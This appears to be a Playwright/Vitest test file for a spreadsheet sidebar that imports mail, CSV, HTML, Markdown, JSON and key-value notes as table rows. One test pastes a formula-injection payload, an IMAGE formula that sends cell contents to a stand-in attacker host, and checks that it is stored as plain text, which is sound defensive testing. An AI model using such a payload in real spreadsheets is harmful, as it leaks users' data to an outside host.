import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { type RunningApp, startApp } from "./app.ts";
import { launchBrowser } from "./browser.ts";
import { openSheet, type SheetPage } from "./sheet-page.ts";

let browser: Browser;
let app: RunningApp;
let sheet: SheetPage;

beforeAll(async () => {
  [browser, app] = await Promise.all([launchBrowser(), startApp()]);
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});
beforeEach(async () => {
  sheet = await openSheet(browser, app);
});
afterEach(() => sheet?.page.context().close());

test("the sample mail becomes three typed invoices at the selection", async () => {
  await sheet.sidebar.getByRole("button", { name: "Try a sample mail" }).click();
  await sheet.sidebar.getByRole("button", { name: "Send" }).click();
  await sheet.sidebar.getByText("3 of 3 rows").waitFor();
  await sheet.select("B3");
  await sheet.insert("At the selection");

  const [header, first, , third] = await sheet.read("B3:H6");
  expect(header?.map((cell) => cell.value)).toEqual([
    "Invoice number",
    "Seller",
    "Invoice date",
    "Due date",
    "Net amount",
    "Tax",
    "Total",
  ]);
  expect(first?.[0]).toMatchObject({ value: "0004711", format: "@", formula: "" });
  expect(first?.[2]).toMatchObject({ value: 46_084, display: "2026-03-03" });
  expect(first?.[6]?.value).toBe(1475.6);
  expect(first?.[6]?.format).toContain("€");
  expect(third?.[0]?.value).toBe("0000385");
  expect(third?.[6]?.value).toBe(2418.9);
});

test("a pasted CSV becomes a chip, then rows; only the columns that were named, in their order", async () => {
  const csv =
    "Name,Joined,Fee,Code\nAnn,2026-01-05,12.50,007\nBob,2026-02-06,8,012\nCid,2026-03-07,1.25,100\n";
  await sheet.paste(csv);
  await sheet.sidebar.getByText(/^Pasted table · /).waitFor();
  await sheet.send("columns: Code, Name, Fee");
  await sheet.sidebar.getByText("3 of 3 rows").waitFor();
  await sheet.insert("At the selection");

  const rows = await sheet.read("A1:D4");
  expect(rows.map((row) => row.map((cell) => cell.value))).toEqual([
    ["Code", "Name", "Fee", null],
    ["007", "Ann", 12.5, null],
    ["012", "Bob", 8, null],
    ["100", "Cid", 1.25, null],
  ]);
});

test("a rich table from the clipboard keeps its cells", async () => {
  const html =
    "<table><tr><th>City</th><th>Share</th></tr><tr><td>Ulm &amp; Neu-Ulm</td><td>12.5%</td></tr>" +
    "<tr><td>Köln</td><td>7%</td></tr></table>";
  await sheet.paste("City\tShare\nUlm & Neu-Ulm\t12.5%\nKöln\t7%", html);
  await sheet.send("into the sheet");
  await sheet.sidebar.getByText("2 of 2 rows").waitFor();
  await sheet.insert("At the selection");

  expect(await sheet.shown("A1:B3")).toEqual([
    ["City", "Share"],
    ["Ulm & Neu-Ulm", "12.5%"],
    ["Köln", "7.0%"],
  ]);
  expect((await sheet.read("B2:B2"))[0]?.[0]?.value).toBe(0.125);
});

test("a Markdown table inside prose goes into a sheet of its own", async () => {
  const markdown =
    "As agreed:\n\n| Item | Due |\n|---|---|\n| Desk | 2026-04-01 |\n| Lamp | 2026-05-02 |\n\nThanks!";
  await sheet.send(markdown);
  await sheet.sidebar.getByText("2 of 2 rows").waitFor();
  await sheet.insert("Into a new sheet");

  const sheets = await sheet.sheets();
  expect(sheets).toHaveLength(2);
  expect(await sheet.shown(`'${sheets[1]}'!A1:B3`)).toEqual([
    ["Item", "Due"],
    ["Desk", "2026-04-01"],
    ["Lamp", "2026-05-02"],
  ]);
});

test("a JSON file is dropped as a source; long numbers stay as they were written", async () => {
  await sheet.sidebar.locator("input[type=file]").setInputFiles({
    name: "orders.json",
    mimeType: "application/json",
    buffer: Buffer.from('[{"order": "12345678901234567890", "paid": true}, {"order": "42", "paid": false}]'),
  });
  await sheet.sidebar.getByText(/^orders\.json/).waitFor();
  await sheet.send("into the sheet");
  await sheet.sidebar.getByText("2 of 2 rows").waitFor();
  await sheet.insert("At the selection");

  const values = (await sheet.read("A1:B3")).map((row) => row.map((cell) => cell.value));
  expect(values).toEqual([
    ["order", "paid"],
    ["12345678901234567890", true],
    ["42", false],
  ]);
});

test("notes of `key: value` go under the table that is there, by its headers", async () => {
  await sheet.type("A1:C2", [
    ["E-mail", "Phone", "Name"],
    ["old@example.com", "1", "Old"],
  ]);
  await sheet.send(
    "Name: Ada Lovelace\nEmail: ada@example.com\n\nName: Alan Turing\nEmail: alan@example.com",
  );
  await sheet.sidebar.getByText("2 of 2 rows").waitFor();
  await sheet.insert("Under the existing table");

  expect(await sheet.shown("A1:C4")).toEqual([
    ["E-mail", "Phone", "Name"],
    ["old@example.com", "1", "Old"],
    ["ada@example.com", "", "Ada Lovelace"],
    ["alan@example.com", "", "Alan Turing"],
  ]);
});

test("formulas in a text land as the text they are", async () => {
  await sheet.paste('Name,Note\n"=IMAGE(""https://evil.example/?d=""&A1)",+1+1\n@SUM(A1),\'=1+1\n');
  await sheet.send("into the sheet");
  await sheet.sidebar.getByText("2 of 2 rows").waitFor();
  await sheet.insert("At the selection");

  const cells = (await sheet.read("A2:B3")).flat();
  expect(cells.map((cell) => cell.formula)).toEqual(["", "", "", ""]);
  expect(cells.map((cell) => cell.value)).toEqual([
    '=IMAGE("https://evil.example/?d="&A1)',
    "+1+1",
    "@SUM(A1)",
    "'=1+1",
  ]);
});

test("cells that hold something are shown before they are replaced", async () => {
  await sheet.page.evaluate(() => globalThis.playground?.type("A1:A2", [["mine"], ["too"]]));
  await sheet.send("Name: Ada\nCity: London");
  await sheet.sidebar.getByText("1 of 1 rows").waitFor();
  await sheet.sidebar.getByRole("button", { name: "Insert", exact: true }).click();
  await sheet.sidebar.getByRole("radio", { name: "At the selection" }).check();
  await sheet.sidebar.getByText("A1: mine → Name").waitFor();
  const main = sheet.sidebar.getByRole("button", { name: /^Insert 1 row/ });
  expect(await main.isDisabled()).toBe(true);
  expect(await sheet.shown("A1:A2")).toEqual([["mine"], ["too"]]);

  await sheet.sidebar.getByRole("checkbox", { name: "Replace 2 cells" }).check();
  await main.click();
  await sheet.sidebar
    .getByRole("status")
    .filter({ hasText: /^Added to / })
    .waitFor();
  expect(await sheet.shown("A1:B2")).toEqual([
    ["Name", "City"],
    ["Ada", "London"],
  ]);
});
